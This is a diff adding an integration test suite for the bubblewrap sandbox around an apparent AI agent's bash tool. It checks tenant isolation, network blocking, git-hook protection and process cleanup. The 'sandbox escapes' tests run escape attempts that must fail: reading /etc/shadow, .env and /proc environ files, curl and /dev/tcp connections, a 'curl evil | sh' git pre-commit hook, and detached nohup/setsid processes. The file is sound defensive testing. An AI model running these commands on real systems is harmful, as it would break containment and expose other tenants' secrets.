@@ -1,0 +1,279 @@
+import { spawn, type ChildProcess } from "node:child_process";
+import { chmod, mkdir, mkdtemp, readFile, realpath, rm, writeFile } from "node:fs/promises";
+import { existsSync } from "node:fs";
+import { createServer, type Server } from "node:net";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { loadConfig } from "../../src/config.js";
+import { sandboxFromConfig } from "../../src/sandbox/sandbox-from-config.js";
+import { createSandbox, type SandboxRunner } from "../../src/sandbox/sandbox-runner.js";
+import { createBashTool } from "../../src/tools/builtin/bash-tool.js";
+import type { SandboxGrant, Tool, ToolContext, ToolResult } from "../../src/tools/tool.js";
+import { toolContext } from "../helpers/tool-context.js";
+import { repoRoot } from "../helpers/test-env.js";
+import { killAll, survivorsAfter, uniqueMarker } from "./host-processes.js";
+
+// The real bash tool, approval mode "auto", sandbox { network: false }, a runner built from configuration as the service builds it.
+const toolPath = "/usr/local/bin:/usr/bin:/bin";
+let workspacesDir: string;
+let workspace: string;
+let sibling: string;
+let outside: string;
+let runner: SandboxRunner;
+let bash: Tool<{ command: string; timeoutMs?: number }>;
+let server: Server;
+let port: number;
+let connections = 0;
+const markers = new Set<string>();
+const hostChildren: ChildProcess[] = [];
+
+beforeAll(async () => {
+  workspacesDir = await realpath(await mkdtemp(path.join(tmpdir(), "foya-sbx-ws-")));
+  workspace = path.join(workspacesDir, "tenant-a", "project-1");
+  sibling = path.join(workspacesDir, "tenant-b", "project-2");
+  await mkdir(path.join(workspace, ".git", "hooks"), { recursive: true });
+  await writeFile(path.join(workspace, ".git", "config"), "[core]\n\tbare = false\n");
+  await mkdir(sibling, { recursive: true });
+  await writeFile(path.join(sibling, "secret.txt"), "tenant-b-secret\n");
+  outside = await realpath(await mkdtemp(path.join(tmpdir(), "foya-sbx-outside-")));
+  runner = sandboxFromConfig(loadConfig({ FOYA_WORKSPACES_DIR: workspacesDir, PATH: toolPath }));
+  bash = createBashTool({ path: toolPath, sandbox: runner }) as unknown as typeof bash;
+  server = createServer((socket) => {
+    connections++;
+    socket.end("HTTP/1.0 200 OK\r\ncontent-length: 5\r\n\r\nhello");
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  port = (server.address() as { port: number }).port;
+});
+
+afterAll(async () => {
+  await killAll(markers);
+  for (const child of hostChildren) child.kill("SIGKILL");
+  await new Promise((resolve) => server.close(resolve));
+  await rm(workspacesDir, { recursive: true, force: true });
+  await rm(outside, { recursive: true, force: true });
+});
+
+interface RunOptions {
+  sandbox?: SandboxGrant | null;
+  approvalMode?: ToolContext["approvalMode"];
+  signal?: AbortSignal;
+  timeoutMs?: number;
+  tool?: typeof bash;
+}
+
+const run = (command: string, options: RunOptions = {}): Promise<ToolResult> =>
+  (options.tool ?? bash).run(
+    toolContext({
+      workspaceDir: workspace,
+      exposedTools: ["bash"],
+      sandbox: options.sandbox === undefined ? { network: false } : options.sandbox,
+      ...(options.approvalMode ? { approvalMode: options.approvalMode } : {}),
+      ...(options.signal ? { signal: options.signal } : {}),
+    }),
+    { command, ...(options.timeoutMs ? { timeoutMs: options.timeoutMs } : {}) },
+    { callId: "c", name: "bash", argumentsRaw: "" },
+  );
+const text = (result: ToolResult) => (result.content[0]?.type === "text" ? result.content[0].text : "");
+
+/** An escape attempt must fail from inside a sandbox that really ran: a non-zero exit, never exit 0 and never "sandbox unavailable". */
+async function refused(command: string): Promise<string> {
+  const result = await run(command);
+  expect(result, `${command}\n${text(result)}`).toMatchObject({ isError: true, errorCode: "exit_code" });
+  expect(text(result)).not.toMatch(/\[exit code 0\]$/);
+  return text(result);
+}
+
+describe("sandbox escapes", () => {
+  it("S3: writes outside the workspace fail and leave the host untouched", async () => {
+    const targets = [
+      path.join(outside, "pwned.txt"),
+      "/etc/foya-pwned",
+      path.join(repoRoot, "pwned.txt"),
+      path.join(repoRoot, "src", "pwned.ts"),
+      path.join(workspacesDir, "pwned.txt"),
+      path.join(sibling, "pwned.txt"),
+      "/usr/local/bin/pwned",
+      "/root/pwned.txt",
+      "/pwned.txt",
+    ];
+    for (const target of targets) {
+      await refused(`echo pwned > ${target}`);
+      expect(existsSync(target), target).toBe(false);
+    }
+    // Creating the missing folders does not reach the host either: the root is read-only.
+    await refused(`mkdir -p ${outside}/deep && echo pwned > ${outside}/deep/x`);
+    expect(existsSync(path.join(outside, "deep"))).toBe(false);
+  });
+
+  it("S3: another tenant's workspace is neither readable nor listed", async () => {
+    expect(await refused(`cat ${path.join(sibling, "secret.txt")}`)).not.toContain("tenant-b-secret");
+    expect(await refused(`ls ${sibling}`)).not.toContain("secret.txt");
+    expect(await refused(`grep -r tenant-b-secret ${workspacesDir}`)).not.toContain("tenant-b-secret");
+    // Only the path down to this workspace exists.
+    const listed = await run(`ls ${workspacesDir}`);
+    expect(text(listed)).not.toContain("tenant-b");
+  });
+
+  it("S3: the service's environment, files and secrets are not visible", async () => {
+    process.env.FOYA_PROBE_SECRET = "must-not-leak";
+    try {
+      // Every process in the sandbox, its pid 1 included, sees only the small tool environment.
+      const environments = await run(`for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f"; done | cut -d= -f1 | sort -u`);
+      expect(environments).toMatchObject({ content: [{ text: expect.stringMatching(/\[exit code 0\]$/) }] });
+      const names = text(environments).split("\n").filter((line) => /^[A-Z_]+$/.test(line));
+      expect(names.length).toBeGreaterThan(0);
+      for (const name of names) expect(["PATH", "HOME", "TERM", "PAGER", "GIT_PAGER", "LANG", "PWD", "SHLVL", "_", "OLDPWD"]).toContain(name);
+      const pid1 = await run("tr '\\0' '\\n' < /proc/1/environ");
+      expect(text(pid1)).not.toMatch(/DATABASE_URL|REDIS_URL|must-not-leak/);
+    } finally {
+      delete process.env.FOYA_PROBE_SECRET;
+    }
+    // No process of the host is visible (the worker, Postgres, this test runner).
+    const processes = await run("ps -eo comm=");
+    expect(text(processes)).not.toMatch(/node|postgres|redis|vitest/);
+    await refused(`cat ${path.join(repoRoot, "package.json")}`);
+    await refused(`ls ${repoRoot}`);
+    await refused(`cat ${path.join(repoRoot, ".env")}`);
+    await refused("cat /etc/shadow");
+    await refused("ls /root");
+    await refused("ls /var/run/postgresql /run/postgresql");
+    await refused("ls /var/lib/postgresql");
+    await refused(`cat /proc/${process.pid}/environ`);
+  });
+
+  it("S3: without the network grant, no port on 127.0.0.1 and no outside host is reachable", async () => {
+    const before = connections;
+    await refused(`exec 3<>/dev/tcp/127.0.0.1/${port}; echo connected`);
+    await refused(`curl -sS --max-time 5 http://127.0.0.1:${port}/`);
+    await refused("curl -sS --max-time 5 http://example.com/");
+    await refused("curl -sS --max-time 5 http://1.1.1.1/");
+    await refused("exec 3<>/dev/tcp/127.0.0.1/5432"); // Postgres, trust auth on this host
+    expect(connections).toBe(before);
+  });
+
+  it("S3: .git/hooks and .git/config stay read-only, and .git cannot be swapped for another", async () => {
+    const config = await readFile(path.join(workspace, ".git", "config"), "utf8");
+    await refused("echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
+    await refused("echo '[core] hooksPath = /tmp' >> .git/config");
+    await refused("git config core.hooksPath .evil-hooks");
+    await refused("mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit");
+    await refused("mv .git/hooks .git/hooks-old");
+    await refused("mv .git/config .git/config-old");
+    expect(existsSync(path.join(workspace, ".git", "hooks", "pre-commit"))).toBe(false);
+    expect(existsSync(path.join(workspace, ".git-old"))).toBe(false);
+    expect(await readFile(path.join(workspace, ".git", "config"), "utf8")).toBe(config);
+    // The rest of .git stays writable: git works.
+    expect(await run("echo ref > .git/probe && cat .git/probe && rm .git/probe")).toMatchObject({ content: [{ text: expect.stringContaining("ref") }] });
+  });
+
+  it("S3: a process outside the sandbox cannot be signalled", async () => {
+    const marker = uniqueMarker();
+    markers.add(marker);
+    const sleeper = spawn("sleep", [marker], { stdio: "ignore" });
+    hostChildren.push(sleeper);
+    await new Promise((resolve) => setTimeout(resolve, 50));
+    await refused(`kill -9 ${sleeper.pid}`);
+    await new Promise((resolve) => setTimeout(resolve, 100));
+    expect(sleeper.exitCode).toBeNull();
+    expect(sleeper.signalCode).toBeNull();
+    sleeper.kill("SIGKILL");
+  });
+
+  it("S3: nothing the command started outlives the call", async () => {
+    const marker = uniqueMarker();
+    markers.add(marker);
+    const result = await run(`(sleep ${marker} &); nohup sleep ${marker} > /dev/null 2>&1 & setsid sleep ${marker} > /dev/null 2>&1 & disown -a; echo started`);
+    expect(text(result)).toContain("started");
+    expect(await survivorsAfter(marker, 1000)).toEqual([]);
+  });
+});
+
+describe("sandboxed work", () => {
+  it("S3: legitimate work passes: the workspace is writable, tools run, /tmp is private", async () => {
+    const name = `private-${uniqueMarker()}`;
+    const result = await run(`echo hello > out.txt && cat out.txt && ls && node -e 'console.log(6 * 7)' && echo tmp > /tmp/${name} && cat /tmp/${name} && git init -q repo && echo "home=$HOME" && pwd`);
+    expect(result.isError, text(result)).toBeUndefined();
+    expect(text(result)).toMatch(/hello\n(.|\n)*42\ntmp\nhome=/);
+    expect(text(result)).toContain(`home=${workspace}\n${workspace}\n`);
+    expect(await readFile(path.join(workspace, "out.txt"), "utf8")).toBe("hello\n");
+    expect(existsSync(path.join(workspace, "repo", ".git"))).toBe(true);
+    expect(existsSync(path.join("/tmp", name))).toBe(false);
+  });
+
+  it("S3: with the network grant the sandbox shares the host's network, loopback included", async () => {
+    const before = connections;
+    const result = await run(`exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3`, { sandbox: { network: true } });
+    expect(text(result)).toContain("hello");
+    expect(await run(`curl -sS --max-time 5 http://127.0.0.1:${port}/`, { sandbox: { network: true } })).toMatchObject({ content: [{ text: expect.stringContaining("hello") }] });
+    expect(connections).toBe(before + 2);
+    // Only the network is granted: the file system stays confined.
+    await expect(run(`cat ${path.join(sibling, "secret.txt")}`, { sandbox: { network: true } })).resolves.toMatchObject({ isError: true, errorCode: "exit_code" });
+  });
+
+  it("S3: Full Access runs unsandboxed", async () => {
+    const target = path.join(outside, "full-access.txt");
+    const result = await run(`cat ${path.join(repoRoot, "package.json")} > /dev/null && echo written > ${target} && exec 3<>/dev/tcp/127.0.0.1/${port} && echo reached`, {
+      sandbox: null,
+      approvalMode: "full_access",
+    });
+    expect(text(result)).toMatch(/reached\n\n\[exit code 0\]$/);
+    expect(await readFile(target, "utf8")).toBe("written\n");
+  });
+
+  it("S3: the sandbox fails closed with a clear error when bwrap is missing, and the command never runs", async () => {
+    const target = path.join(outside, "ran-unsandboxed.txt");
+    const missing = createBashTool({
+      path: toolPath,
+      sandbox: createSandbox({ bwrapPath: "/nonexistent/bwrap", searchPath: toolPath, workspacesDir, servicePaths: [repoRoot] }),
+    }) as unknown as typeof bash;
+    const result = await run(`echo ran > ${target}`, { tool: missing });
+    expect(result).toMatchObject({ isError: true, errorCode: "sandbox_unavailable" });
+    expect(text(result)).toMatch(/Sandbox unavailable: bubblewrap \("\/nonexistent\/bwrap"\) is not installed/);
+    expect(text(result)).toContain("install the Debian package bubblewrap");
+    expect(text(result)).toContain("Full Access");
+    // A bwrap looked up by name on a PATH without it, and a tool built without any runner, refuse the same way.
+    const unnamed = createBashTool({ path: toolPath, sandbox: createSandbox({ bwrapPath: "bwrap", searchPath: outside, workspacesDir, servicePaths: [repoRoot] }) }) as unknown as typeof bash;
+    expect(await run(`echo ran > ${target}`, { tool: unnamed })).toMatchObject({ isError: true, errorCode: "sandbox_unavailable" });
+    const none = createBashTool({ path: toolPath }) as unknown as typeof bash;
+    expect(await run(`echo ran > ${target}`, { tool: none })).toMatchObject({ isError: true, errorCode: "sandbox_unavailable" });
+    expect(existsSync(target)).toBe(false);
+  });
+
+  it("S3: the sandbox fails closed when bwrap cannot set it up, with bwrap's reason", async () => {
+    // A bwrap that fails before starting its child, as one without namespace permissions does.
+    const fake = path.join(outside, "bwrap");
+    await writeFile(fake, "#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n");
+    await chmod(fake, 0o755);
+    const broken = createBashTool({ path: toolPath, sandbox: createSandbox({ bwrapPath: fake, searchPath: toolPath, workspacesDir, servicePaths: [repoRoot] }) }) as unknown as typeof bash;
+    const result = await run("echo hi", { tool: broken });
+    expect(result).toMatchObject({ isError: true, errorCode: "sandbox_unavailable" });
+    expect(text(result)).toContain("bubblewrap could not set up the sandbox (bwrap: No permissions to create new namespace)");
+    expect(text(result)).toContain("install the Debian package bubblewrap");
+  });
+});
+
+describe("sandboxed cancellation", () => {
+  it("C1: cancelling a sandboxed call kills its whole process tree", async () => {
+    const marker = uniqueMarker();
+    markers.add(marker);
+    const controller = new AbortController();
+    const started = run(`sleep ${marker} & (sleep ${marker} &); setsid sleep ${marker} & echo started; wait`, { signal: controller.signal });
+    // Cancel once the tree is up.
+    const deadline = Date.now() + 10_000;
+    while ((await survivorsAfter(marker, 0)).length < 4 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
+    expect((await survivorsAfter(marker, 0)).length).toBeGreaterThanOrEqual(4); // bwrap, its init, and the sleeps
+    controller.abort();
+    expect(await started).toMatchObject({ isError: true, errorCode: "cancelled" });
+    expect(await survivorsAfter(marker, 1000)).toEqual([]);
+  });
+
+  it("C1: a timeout kills the whole sandboxed process tree", async () => {
+    const marker = uniqueMarker();
+    markers.add(marker);
+    const result = await run(`sleep ${marker} & nohup sleep ${marker} > /dev/null 2>&1 & sleep ${marker}`, { timeoutMs: 500 });
+    expect(result).toMatchObject({ isError: true, errorCode: "timeout" });
+    expect(await survivorsAfter(marker, 1000)).toEqual([]);
+  });
+});
